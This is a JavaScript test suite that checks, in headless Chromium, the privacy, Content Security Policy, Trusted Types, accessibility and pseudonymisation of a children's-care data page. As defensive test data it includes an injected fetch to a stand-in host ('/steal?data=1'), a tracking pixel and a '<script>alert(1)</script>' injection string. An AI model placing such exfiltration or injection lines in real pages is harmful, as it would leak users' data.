// Privacy, security, accessibility and responsiveness of the page in headless Chromium:
// - no request after the page has loaded, whatever the user does (load, every view, every
//   export, print), and none to another origin ever;
// - the Content Security Policy blocks an injected fetch to another origin and inline script;
// - nothing is stored (no cookies, localStorage, sessionStorage, IndexedDB, caches) and no
//   spreadsheet value reaches the console;
// - charts are real pixels; SVG exports escape text;
// - axe-core finds no serious or critical violation on any view;
// - no main-thread task over 100 ms while a large generated file loads (Long Tasks API).

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { launch } from './browser.mjs';
import { serve } from './server.mjs';
import {
  DEMO_FILES,
  DIST,
  WWW,
  assertPageMatchesCli,
  cli,
  cliAnalyze,
  downloadBy,
  downloadText,
  evaluateOutside,
  networkRequests,
  openChildRow,
  openRecorded,
  pickFiles,
  waitForLoad,
  openView,
  watchLongTasks,
} from './helpers.mjs';

const require = createRequire(import.meta.url);
const AXE_SOURCE = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
const VIEWS = ['read', 'overview', 'children', 'cohort', 'qi', 'forecast', 'timescales'];

let server;
let browser;
let dir;

before(async () => {
  server = await serve(WWW);
  browser = await launch();
  dir = mkdtempSync(join(tmpdir(), 'driftline-privacy-'));
});

after(async () => {
  await browser?.close();
  await server?.close();
});


/** Counts the non-white pixels of every chart canvas drawn on the page (and not hidden). */
function chartInk(page) {
  return page.$$eval('figure.chart[data-drawn="yes"]:not([hidden]) canvas', (canvases) =>
    canvases.map((canvas) => {
      const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
      let ink = 0;
      for (let i = 0; i < data.length; i += 4) {
        if (data[i + 3] > 0 && (data[i] < 240 || data[i + 1] < 240 || data[i + 2] < 240)) {
          ink += 1;
        }
      }
      return { slot: canvas.closest('figure').dataset.slot, ink, pixels: data.length / 4 };
    }),
  );
}

test('no request after load and none elsewhere, across every view, export and print', async () => {
  const { context, page, requests, errors, consoleMessages } = await openRecorded(browser, `${server.origin}/`);
  try {
    const loaded = requests.length;
    const files = DEMO_FILES;
    await pickFiles(page, files);
    const { report } = await assertPageMatchesCli(page, files);
    await downloadText(page, '#problems-csv');
    for (const view of VIEWS) {
      await openView(page, view);
      for (const button of await page.$$(`#view-${view} [data-export]`)) {
        const download = await downloadBy(page, () => button.click());
        await download.path();
      }
    }
    // The stage table and its exports, a breakdown and a filter; the Overview's charts are
    // real pixels, drawn again (and exported again) for the split and the filter.
    await openView(page, 'overview');
    for (const selector of ['#stages-csv', '#stage-rows-csv']) {
      await downloadText(page, selector);
    }
    const overviewInk = async () => {
      const drawn = (await chartInk(page)).filter(({ slot }) => slot.startsWith('overview-'));
      assert.deepEqual(drawn.map((d) => d.slot).sort(), ['overview-cohort', 'overview-delay', 'overview-km', 'overview-spread']);
      for (const { slot, ink: n, pixels } of drawn) {
        assert.ok(n > pixels * 0.01, `${slot}: only ${n} of ${pixels} pixels drawn`);
      }
    };
    await overviewInk();
    await page.selectOption('#stage-breakdown', 'placement');
    await page.waitForSelector('#stage-table tr.group-row');
    await openView(page, 'overview');
    await overviewInk();
    await page.selectOption('[data-filter="age_band"]', { index: 1 });
    await openView(page, 'overview');
    await overviewInk();
    for (const button of await page.$$('#view-overview [data-export]')) {
      const download = await downloadBy(page, () => button.click());
      await download.path();
    }
    await page.click('#filters-reset');
    // QI: a test of change and a rebase date.
    await openView(page, 'qi');
    await page.fill('#qi-annotations-date', '2022-01-01');
    await page.fill('#qi-annotations-label', 'PDSA 1');
    await page.click('#qi-annotations-add');
    await page.fill('#qi-rebase-date', '2022-06-01');
    await page.click('#qi-rebase-add');
    await page.selectOption('#qi-aggregation', 'quarter');
    await openView(page, 'qi');
    // Timescales: England, an edit, save, and Scotland again.
    await openView(page, 'timescales');
    await page.check('#profile-england');
    await page.waitForFunction(() => /Recalculated/.test(document.getElementById('status').textContent));
    await page.fill('#profile-stages tbody tr [data-field="target-count"]', '12');
    await page.click('#profile-apply');
    await downloadText(page, '#profile-save');
    await page.check('#profile-scotland');
    await openView(page, 'children');
    await page.click('#children-table [data-child]');
    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
    for (const selector of ['#children-csv', '#chronology-csv', '#child-stages-csv', '#child-detail [data-export="png"]', '#child-detail [data-export="svg"]']) {
      await downloadText(page, selector);
    }
    // Print (headless Chromium returns at once) and the print layout.
    await page.click('#print-child');
    await page.emulateMedia({ media: 'print' });
    await page.emulateMedia({ media: 'screen' });
    // Tooltips and a redraw on resize.
    const box = await page.locator('#child-detail canvas').boundingBox();
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.setViewportSize({ width: 900, height: 800 });
    await page.waitForTimeout(400);
    await page.check('#pseudonymise');
    await page.fill('#as-at-input', '2023-12-31');
    await page.dispatchEvent('#as-at-input', 'change');
    await waitForLoad(page);
    await page.click('#clear-button');
    assert.deepEqual(networkRequests(requests.slice(loaded)), [], 'requests after the page had loaded');
    for (const url of networkRequests(requests)) {
      assert.equal(new URL(url).origin, server.origin, `a request to another origin: ${url}`);
    }
    // Nothing stored anywhere.
    const stored = await page.evaluate(async () => ({
      cookie: document.cookie,
      local: localStorage.length,
      session: sessionStorage.length,
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
    }));
    assert.deepEqual(stored, { cookie: '', local: 0, session: 0, databases: 0, caches: 0 });
    assert.deepEqual((await context.cookies()).length, 0);
    // No spreadsheet value in the console: no message at all mentions a child, a label or a
    // problem.
    const values = new Set();
    for (const j of report.journeys) {
      values.add(j.child_id);
      for (const p of j.care_periods) {
        for (const pl of p.placements) {
          values.add(pl.placement_type);
          if (pl.carer) values.add(pl.carer);
        }
      }
    }
    for (const d of report.input.diagnostics) {
      values.add(d.message);
    }
    for (const message of consoleMessages) {
      for (const value of values) {
        assert.ok(!message.includes(value), `the console shows ${value}: ${message}`);
      }
    }
    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('the Content Security Policy blocks an injected fetch to another origin and inline script', async () => {
  const { context, page, requests, errors } = await openRecorded(browser, `${server.origin}/`);
  const answered = [];
  const failed = [];
  context.on('requestfinished', (request) => answered.push(request.url()));
  context.on('requestfailed', (request) => failed.push(`${request.url()} ${request.failure()?.errorText}`));
  try {
    const result = await page.evaluate(async () => {
      const out = {};
      try {
        await fetch('https://example.org/steal?data=1');
        out.fetch = 'sent';
      } catch (error) {
        out.fetch = error.name;
      }
      // Trusted Types refuse the script's text first; without them, the policy's script-src
      // would refuse to run it.
      try {
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.body.append(script);
        out.script = 'appended';
      } catch (error) {
        out.script = error.name;
      }
      const image = new Image();
      image.src = 'https://example.org/pixel.gif';
      await new Promise((done) => setTimeout(done, 200));
      out.inline = window.__inline ?? null;
      out.violations = window.__cspViolations;
      return out;
    });
    assert.equal(result.fetch, 'TypeError');
    assert.equal(result.inline, null, 'inline script ran');
    assert.ok(result.violations.some((v) => v.startsWith('connect-src https://example.org')), result.violations.join(' '));
    assert.equal(result.script, 'TypeError');
    assert.ok(result.violations.some((v) => v.startsWith('require-trusted-types-for')), result.violations.join(' '));
    assert.ok(result.violations.some((v) => v.startsWith('img-src https://example.org')), result.violations.join(' '));
    // Chromium announces the blocked image request, then fails it before it leaves.
    assert.deepEqual(answered.filter((url) => url.includes('example.org')), []);
    for (const url of requests.filter((u) => u.includes('example.org'))) {
      assert.ok(failed.some((f) => f.startsWith(url) && / csp$|BLOCKED/.test(f)), `${url}: ${failed.join(' ')}`);
    }
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('every view renders, charts have real pixels, SVG exports escape text', async () => {
  const hostile = '<script>alert(1)</script>&"';
  const csv = join(dir, 'hostile.csv');
  writeFileSync(
    csv,
    'child_id,start_date,end_date,placement_type,carer\n' +
      `"${hostile.replaceAll('"', '""')}",01/02/2022,,Foster care,"<b>carer</b>"\n` +
      'C2,01/03/2021,,Kinship care,\n',
  );
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  try {
    await pickFiles(page, [csv]);
    await openView(page, 'children');
    await page.fill('#children-search', 'script');
    await page.waitForFunction(() => document.querySelectorAll('#children-table tbody tr').length === 1);
    await page.click('#children-table [data-child]');
    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
    const timeline = (await downloadText(page, '#child-detail [data-export="svg"]')).text;
    const parsed = await evaluateOutside(page, (svg) => {
      const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
      return {
        error: doc.querySelector('parsererror') !== null,
        scripts: doc.querySelectorAll('script').length,
        bold: doc.querySelectorAll('b').length,
        text: doc.documentElement.textContent,
      };
    }, timeline);
    assert.equal(parsed.error, false, 'the SVG is well-formed');
    assert.equal(parsed.scripts, 0);
    assert.equal(parsed.bold, 0);
    assert.ok(parsed.text.includes(hostile), 'the ID is in the SVG as text');
    for (const view of VIEWS) {
      await openView(page, view);
    }
    await openView(page, 'cohort');
    const ink = await chartInk(page);
    assert.ok(ink.length >= 1);
    for (const { slot, ink: n, pixels } of ink) {
      assert.ok(n > pixels * 0.01, `${slot}: only ${n} of ${pixels} pixels drawn`);
    }
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('axe-core finds no serious or critical violation on any view', async () => {
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  try {
    // axe is injected by the test through the DevTools protocol; the page never ships it.
    await page.evaluate(AXE_SOURCE);
    const check = async (where) => {
      const result = await page.evaluate(async () => {
        const r = await window.axe.run(document, { resultTypes: ['violations'] });
        return r.violations
          .filter((v) => v.impact === 'serious' || v.impact === 'critical')
          .map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(', ')}`);
      });
      assert.deepEqual(result, [], `${where}: ${result.join('; ')}`);
    };
    await check('the empty page');
    await page.click('#demo-button');
    await waitForLoad(page);
    for (const view of VIEWS) {
      await openView(page, view);
      await check(`the ${view} view`);
    }
    await openView(page, 'overview');
    await page.selectOption('#stage-breakdown', 'age_at_entry');
    await page.waitForSelector('#stage-table tr.group-row');
    await openView(page, 'overview');
    // The numbers behind the charts, opened.
    for (const details of await page.$$('#view-overview details.numbers')) {
      await details.evaluate((d) => {
        d.open = true;
      });
    }
    await page.waitForSelector('#overview-delay-table');
    await page.waitForSelector('#overview-km-table');
    await check('the stage table and charts split by age, their numbers shown');
    await openView(page, 'qi');
    await page.fill('#qi-annotations-date', '2022-01-01');
    await page.click('#qi-annotations-add');
    await page.waitForSelector('#qi-annotations li');
    await check('the QI view with a test of change');
    await openView(page, 'timescales');
    await page.click('#profile-add-stage');
    await page.fill('#profile-stages tbody tr [data-field="target-count"]', '1.5');
    await page.waitForSelector('#profile-message:not([hidden])');
    await check('the timescales with a problem shown');
    await openView(page, 'children');
    await page.click('#children-table [data-child]');
    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
    await check('a child');
    await page.click('#mapping-button');
    await page.waitForSelector('#mapping:not([hidden]) .sheet-mapping');
    await check('the mapping step');
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

// How long main-thread tasks take is a matter for the benchmark (`make bench-browser` reports
// the longest task during a load); a timed assertion here would fail on a busy machine. What
// this test checks cannot depend on speed: the counts equal the command line's, and the page
// went on painting frames while the worker built the journeys (a page whose main thread did
// the work could paint none until it was done).
test('a large file loads in the worker while the page keeps painting, and its counts equal the command line', async () => {
  const out = join(dir, 'large');
  const generated = await cli(['generate', '--children', '20000', '--seed', '11', '--as-at', '2024-03-31',
    '--messy-rate', '0.02', '--out', out]);
  assert.equal(generated.code, 0, generated.stderr);
  const files = ['children.csv', 'placements.csv', 'legal.csv', 'events.csv'].map((f) => join(out, f));
  const start = Date.now();
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  try {
    const ready = await page.evaluate(() => performance.getEntriesByName('driftline-ready')[0].startTime);
    const longTasksSoFar = await watchLongTasks(page);
    // Count the frames painted while the progress label says the journeys are being built.
    await page.evaluate(() => {
      window.__framesWhileAnalysing = 0;
      const label = document.getElementById('progress-label');
      const progress = document.getElementById('progress');
      const tick = () => {
        if (!progress.hidden && /building every journey/.test(label.textContent)) {
          window.__framesWhileAnalysing += 1;
        }
        if (!document.getElementById('status').classList.contains('is-done')) {
          requestAnimationFrame(tick);
        }
      };
      requestAnimationFrame(tick);
    });
    const t0 = Date.now();
    await page.setInputFiles('#file-input', files);
    await waitForLoad(page);
    const loadMs = Date.now() - t0;
    const longTasks = await longTasksSoFar();
    const frames = await page.evaluate(() => window.__framesWhileAnalysing);
    // The views open on the loaded data too.
    await openView(page, 'children');
    await openView(page, 'cohort');
    const longest = Math.max(0, ...longTasks);
    const cliReport = (await cliAnalyze(files, '2024-03-31')).report;
    assert.equal(
      Number((await page.textContent('[data-count="children"]')).replaceAll(',', '')),
      cliReport.children,
    );
    assert.equal(
      Number((await page.textContent('[data-count="rows_read"]')).replaceAll(',', '')),
      cliReport.input.rows_read,
    );
    process.stdout.write(
      `# large load: ${files.length} files, ${cliReport.input.rows_read} rows, ` +
        `page ready ${Math.round(ready)} ms after navigation, load ${loadMs} ms, ` +
        `${frames} frames painted while the journeys were built, ` +
        `longest main-thread task ${Math.round(longest)} ms (${longTasks.length} over 50 ms), ` +
        `test started ${start}\n`,
    );
    assert.ok(frames >= 2, `the page painted ${frames} frames while the worker built the journeys`);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

// --- A cohort seeded with names (issue 18) ----------------------------------------------------
// Three children named in their IDs, carers named, a month-first date of birth (quoted in a
// problem), a placement type, a legal status and events written as free text naming people.

const NAMED = {
  'children.csv':
    'child_id,date_of_birth,sex,local_authority,team\n' +
    'SMITH-JOHN-01,03/04/2015,Female,Aldmoor,North\n' +
    'JONES-AMY-02,12/13/2016,Male,Aldmoor,South\n' +
    'BROWN-ZOE-03,25/06/2019,Female,Benholm,North\n',
  'placements.csv':
    'child_id,start_date,end_date,placement_type,carer,legal_status\n' +
    'SMITH-JOHN-01,01/03/2023,,Foster care with Gran Smith,Margaret Smith,CSO per Sheriff Brown\n' +
    'JONES-AMY-02,01/06/2023,01/09/2023,Kinship care,Uncle Bob Jones,Interim CSO\n' +
    'BROWN-ZOE-03,01/07/2023,,Foster care,Pat Green,Interim CSO\n',
  'events.csv':
    'child_id,date,event,detail\n' +
    "SMITH-JOHN-01,01/03/2023,Became looked after,Removed from Jane Doe's house\n" +
    'SMITH-JOHN-01,05/04/2023,Contact with mum Jane Doe,\n' +
    'BROWN-ZOE-03,01/08/2023,LAC review,Chaired by Ms Violet Grey\n',
};
const NAMED_IDS = ['SMITH-JOHN-01', 'JONES-AMY-02', 'BROWN-ZOE-03'];
const NAMED_PEOPLE = ['Margaret Smith', 'Uncle Bob', 'Pat Green', 'Gran Smith', 'Sheriff Brown', 'Jane Doe', 'Violet Grey'];
/** The dates of birth (and, for Clear, a placement's start) as ISO. */
const NAMED_BIRTHS = ['2015-04-03', '2019-06-25'];
/** The teams and local authorities. */
const NAMED_GROUPS = ['North', 'South', 'Aldmoor', 'Benholm'];

function namedFiles() {
  return Object.entries(NAMED).map(([name, text]) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  });
}

/** Each ISO date as the page may show it: ISO, day first, and in the page's own long and short forms. */
async function dateForms(page, isoDates) {
  const shown = await page.evaluate(async (dates) => {
    const { formatDate } = await import('/ui.js');
    return dates.flatMap((d) => [formatDate(d), formatDate(d, 'short')]);
  }, isoDates);
  const dayFirst = isoDates.map((d) => d.split('-').reverse().join('/'));
  return [...isoDates, ...dayFirst, ...shown];
}

/**
 * Everything the page holds that a person or a script could read: the DOM (hidden parts
 * included), every form control's current value, and every shadow root, as text.
 */
function everythingOnThePage(page) {
  return page.evaluate(() => {
    const parts = [document.documentElement.outerHTML];
    const walk = (root) => {
      for (const node of root.querySelectorAll('*')) {
        if ('value' in node && typeof node.value === 'string') {
          parts.push(node.value);
        }
        if (node.shadowRoot !== null && node.shadowRoot !== undefined) {
          parts.push(node.shadowRoot.innerHTML);
          walk(node.shadowRoot);
        }
      }
    };
    walk(document);
    return parts.join('\n');
  });
}

/** Waits until the problem list shows the page's latest settings. */
function waitForProblems(page) {
  return page.waitForFunction(() => document.getElementById('problem-table').dataset.rendered === 'yes');
}

/** Moves the pointer over a canvas in a grid and returns every tooltip shown. */
async function sweepTooltips(page, selector) {
  const canvas = page.locator(selector).first();
  await canvas.scrollIntoViewIfNeeded();
  const box = await canvas.boundingBox();
  const seen = new Set();
  for (let y = box.y + 8; y < box.y + box.height; y += 18) {
    for (let x = box.x + 8; x < box.x + box.width; x += 40) {
      await page.mouse.move(x, y);
      await page.waitForTimeout(15);
      const tip = await page.evaluate(() => {
        const t = document.getElementById('tooltip');
        return t.hidden ? '' : t.textContent;
      });
      if (tip !== '') {
        seen.add(tip);
      }
    }
  }
  return [...seen];
}

test('Clear forgets everything loaded: DOM, controls, preview, tooltip, downloads and worker; a second load works', async () => {
  const files = namedFiles();
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  // Every object URL the page makes, to fetch after Clear.
  await page.addInitScript(() => {
    window.__objectUrls = [];
    const make = URL.createObjectURL.bind(URL);
    URL.createObjectURL = (blob) => {
      const url = make(blob);
      window.__objectUrls.push(url);
      return url;
    };
  });
  await page.reload();
  await page.waitForSelector('body[data-engine="ready"]');
  try {
    await pickFiles(page, files);
    const secrets = [...NAMED_IDS, ...NAMED_PEOPLE, ...(await dateForms(page, [...NAMED_BIRTHS, '2023-03-01']))];
    for (const view of VIEWS) {
      await openView(page, view);
    }
    // A child, its timeline's tooltips, its downloads.
    await openView(page, 'children');
    await page.fill('#children-search', 'SMITH');
    await page.waitForFunction(() => document.querySelectorAll('#children-table tbody tr').length === 1);
    await page.click('#children-table [data-child]');
    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
    const tips = await sweepTooltips(page, '#child-detail canvas');
    assert.ok(tips.some((t) => t.includes('Margaret Smith')), `tooltips: ${tips.join(' | ')}`);
    // Leave the last tooltip showing a carer, as a user would.
    await page.mouse.move(0, 0);
    for (const selector of ['#children-csv', '#chronology-csv', '#child-detail [data-export="svg"]']) {
      await downloadText(page, selector);
    }
    // A filter by team, and a real ID typed in the problem search.
    await page.selectOption('[data-filter="team"]', 'North');
    await openView(page, 'read');
    await downloadText(page, '#problems-csv');
    await page.fill('#problem-search', 'JONES-AMY-02');
    await page.waitForFunction(() => document.getElementById('problem-table').dataset.rendered === 'yes');
    // The mapping step, with its preview of the raw rows.
    await page.click('#mapping-button');
    await page.waitForSelector('#mapping:not([hidden]) .sheet-mapping');
    const before = await everythingOnThePage(page);
    for (const secret of [...NAMED_IDS, 'Margaret Smith', '12/13/2016']) {
      assert.ok(before.includes(secret), `before Clear the page shows ${secret}`);
    }
    const workers = page.workers();
    assert.ok(workers.length >= 1, 'a worker holds the data');
    const closed = workers.map((w) => new Promise((done) => w.once('close', done)));

    await page.click('#clear-button');
    await page.waitForFunction(() => document.getElementById('status').textContent.includes('Nothing is loaded'));
    await Promise.all(closed);
    const after = await everythingOnThePage(page);
    for (const secret of [...secrets, '12/13/2016', 'North', 'Aldmoor']) {
      assert.ok(!after.includes(secret), `after Clear the page still holds ${secret}`);
    }
    const fetched = await page.evaluate(async () =>
      Promise.all(
        window.__objectUrls.map(async (url) => {
          try {
            return await (await fetch(url)).text();
          } catch {
            return '';
          }
        }),
      ),
    );
    for (const [i, text] of fetched.entries()) {
      for (const secret of secrets) {
        assert.ok(!text.includes(secret), `object URL ${i} still fetches ${secret}`);
      }
    }

    // A second load works, the Children tab included.
    await pickFiles(page, files);
    await openView(page, 'children');
    assert.equal(await page.inputValue('#children-search'), '');
    assert.equal(await page.locator('#children-table tbody tr').count(), 3);
    await page.click('#children-table [data-child]');
    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
    assert.equal(await page.inputValue('#problem-search'), '');
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('a team or authority chosen stays chosen, under its neutral name, when Pseudonymise is switched on and off', async () => {
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  try {
    await pickFiles(page, namedFiles());
    await waitForLoad(page);
    await openView(page, 'children');
    // The children listed, once the table shows `want` (it is drawn again after each switch).
    const listed = async (want) => {
      await page
        .waitForFunction(
          (w) => JSON.stringify([...document.querySelectorAll('#children-table [data-child]')].map((c) => c.textContent.trim())) === JSON.stringify(w),
          want,
          { timeout: 10_000 },
        )
        .catch(() => {});
      return page.$$eval('#children-table [data-child]', (cells) => cells.map((c) => c.textContent.trim()));
    };
    const chosen = (filter) => page.$eval(`[data-filter="${filter}"]`, (s) => s.value);
    // South is JONES-AMY-02's team alone; in order of first appearance it is Team B.
    await page.selectOption('[data-filter="team"]', 'South');
    assert.deepEqual(await listed(['JONES-AMY-02']), ['JONES-AMY-02']);
    await page.check('#pseudonymise');
    assert.deepEqual(await listed(['Child 2']), ['Child 2']);
    assert.equal(await chosen('team'), 'Team B');
    await page.uncheck('#pseudonymise');
    assert.deepEqual(await listed(['JONES-AMY-02']), ['JONES-AMY-02']);
    assert.equal(await chosen('team'), 'South');
    // Benholm (BROWN-ZOE-03's authority alone) is Authority B, both ways.
    await page.selectOption('[data-filter="team"]', '');
    await page.selectOption('[data-filter="local_authority"]', 'Benholm');
    assert.deepEqual(await listed(['BROWN-ZOE-03']), ['BROWN-ZOE-03']);
    await page.check('#pseudonymise');
    assert.deepEqual(await listed(['Child 3']), ['Child 3']);
    assert.equal(await chosen('local_authority'), 'Authority B');
    await page.uncheck('#pseudonymise');
    assert.deepEqual(await listed(['BROWN-ZOE-03']), ['BROWN-ZOE-03']);
    assert.equal(await chosen('local_authority'), 'Benholm');
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('Pseudonymise hides every ID, date of birth, carer, team, authority and free-text label in every view, tooltip, export and file name', async () => {
  const files = namedFiles();
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  const downloads = [];
  page.on('download', (d) => downloads.push(d));
  try {
    await pickFiles(page, files);
    await page.check('#pseudonymise');
    await waitForProblems(page);
    // (JONES-AMY-02's date of birth, written month-first, is 13 December 2016.)
    const secrets = [...NAMED_IDS, ...NAMED_PEOPLE, ...NAMED_GROUPS, '12/13/2016', ...(await dateForms(page, [...NAMED_BIRTHS, '2016-12-13']))];
    const seen = [];
    // The filters offer teams and authorities by neutral names, in order of first
    // appearance: North (SMITH-JOHN-01's) is Team A, South Team B; Aldmoor is Authority A.
    const options = (filter) =>
      page.$$eval(`[data-filter="${filter}"] option`, (all) => all.map((o) => [o.value, o.textContent]));
    assert.deepEqual(await options('team'), [['', 'All'], ['Team A', 'Team A'], ['Team B', 'Team B']]);
    assert.deepEqual(await options('local_authority'), [['', 'All'], ['Authority A', 'Authority A'], ['Authority B', 'Authority B']]);
    // Team B is JONES-AMY-02's alone: the children list shows Child 2 of Team B.
    await openView(page, 'children');
    await page.selectOption('[data-filter="team"]', 'Team B');
    await page.waitForFunction(() => document.querySelectorAll('#children-table [data-child]').length === 1);
    const only = await page.$eval('#children-table [data-child]', (cell) => cell.closest('tr').textContent);
    assert.ok(only.includes('Child 2'), only);
    seen.push(['the children of Team B', await everythingOnThePage(page)]);
    await page.selectOption('[data-filter="team"]', '');
    await page.waitForFunction(() => document.querySelectorAll('#children-table [data-child]').length === 3);
    // The stage table and its charts split by team, then by authority.
    for (const split of ['local_authority', 'team']) {
      await openView(page, 'overview');
      await page.selectOption('#stage-breakdown', split);
      await openView(page, 'overview');
      // The first stage (became looked after to first review) is started by all three: two
      // of Team A (Authority A), one of Team B (Authority B).
      const groups = await page.$$eval('#stage-table tr.group-row[data-stage="first_review"] th', (all) =>
        all.map((th) => [th.closest('tr').dataset.group, th.textContent]),
      );
      const word = split === 'team' ? 'Team' : 'Authority';
      assert.deepEqual(groups, [[`${word} A`, `${word} A`], [`${word} B`, `${word} B`]]);
      seen.push([`the overview by ${split}`, await everythingOnThePage(page)]);
      await downloadText(page, '#stages-csv');
    }
    for (const view of VIEWS) {
      await openView(page, view);
      for (const button of await page.$$(`#view-${view} [data-export]`)) {
        if (!(await button.isVisible())) {
          continue;
        }
        const download = await downloadBy(page, () => button.click());
        await download.path();
      }
      seen.push([`the ${view} view`, await everythingOnThePage(page)]);
    }
    await openView(page, 'overview');
    for (const selector of ['#stages-csv', '#stage-rows-csv']) {
      await downloadText(page, selector);
    }
    await openView(page, 'read');
    await downloadText(page, '#problems-csv');
    await openView(page, 'children');
    await downloadText(page, '#children-csv');
    for (let i = 0; i < NAMED_IDS.length; i += 1) {
      await openChildRow(page, page.locator('#children-table [data-child]').nth(i));
      const tips = await sweepTooltips(page, '#child-detail canvas');
      assert.ok(tips.length > 0, 'the timeline has tooltips');
      seen.push([`child ${i} tooltips`, tips.join('\n')]);
      for (const selector of ['#chronology-csv', '#child-stages-csv', '#child-detail [data-export="svg"]', '#child-detail [data-export="png"]']) {
        await downloadText(page, selector);
      }
      seen.push([`child ${i}`, await everythingOnThePage(page)]);
    }
    for (const d of downloads) {
      seen.push([`the file name ${d.suggestedFilename()}`, d.suggestedFilename()]);
      if (!d.suggestedFilename().endsWith('.png')) {
        seen.push([`the download ${d.suggestedFilename()}`, readFileSync(await d.path(), 'utf8')]);
      }
    }
    assert.ok(downloads.length >= 12, `${downloads.length} downloads`);
    for (const [what, text] of seen) {
      for (const secret of secrets) {
        assert.ok(!text.includes(secret), `${what} shows ${secret}`);
      }
    }
    // File names never carry an ID, even when Pseudonymise is off.
    await page.uncheck('#pseudonymise');
    await openView(page, 'children');
    await openChildRow(page, page.locator('#children-table [data-child]').first());
    for (const selector of ['#chronology-csv', '#child-stages-csv', '#child-detail [data-export="svg"]']) {
      const { name, text } = await downloadText(page, selector);
      assert.ok(/child-1\b/.test(name), name);
      assert.ok(NAMED_IDS.every((id) => !name.includes(id)), name);
      if (selector === '#chronology-csv') {
        assert.ok(text.includes('Margaret Smith'), 'not pseudonymised, the chronology names the carer');
      }
    }
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('a timescales file of 20,000 stages is refused at once, in words', async () => {
  const stages = Array.from({ length: 20000 }, (_, i) => ({
    id: `s${i}`,
    label: '',
    from: 'became_looked_after',
    to: 'left_care',
  }));
  const path = join(dir, 'stages-20000.json');
  writeFileSync(path, JSON.stringify({ id: 'big', label: 'Big', stages }));
  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
  try {
    await page.click('#demo-button');
    await waitForLoad(page);
    await openView(page, 'timescales');
    const started = Date.now();
    await page.setInputFiles('#profile-file', path);
    await page.waitForSelector('#profile-message:not([hidden])');
    const took = Date.now() - started;
    const message = await page.textContent('#profile-message');
    assert.match(message, /stages-20000\.json: The profile is \d+ kB; a profile is at most 1024 kB/);
    assert.ok(took < 5000, `refused after ${took} ms`);
    // Nothing changed: the demo's timescales are still Scotland's.
    assert.ok(await page.isChecked('#profile-scotland'));
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('Trusted Types: the page and the single file refuse HTML and script URLs built from text, and still run', async () => {
  for (const url of [`${server.origin}/`, pathToFileURL(join(DIST, 'driftline.html')).href]) {
    const { context, page, errors } = await openRecorded(browser, url);
    try {
      await page.click('#demo-button');
      assert.match(await waitForLoad(page), /Read 4 files/, url);
      await openView(page, 'children');
      const tried = await page.evaluate(async () => {
        const attempt = (f) => {
          try {
            f();
            return 'allowed';
          } catch (error) {
            return error.name;
          }
        };
        const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        const out = {
          html: attempt(() => document.body.insertAdjacentHTML('beforeend', '<i id="tt">x</i>')),
          worker: attempt(() => new Worker(blob)),
          policy: attempt(() => trustedTypes.createPolicy('driftline-worker', { createScriptURL: (u) => u })),
          inserted: document.getElementById('tt') !== null,
        };
        // Violations are reported in a task of their own.
        await new Promise((done) => setTimeout(done, 200));
        return { ...out, violations: window.__cspViolations };
      });
      assert.deepEqual(
        { html: tried.html, worker: tried.worker, policy: tried.policy, inserted: tried.inserted },
        { html: 'TypeError', worker: 'TypeError', policy: 'TypeError', inserted: false },
        url,
      );
      assert.ok(tried.violations.some((v) => v.startsWith('require-trusted-types-for')), tried.violations.join(' '));
      assert.deepEqual(errors, [], url);
    } finally {
      await context.close();
    }
  }
});
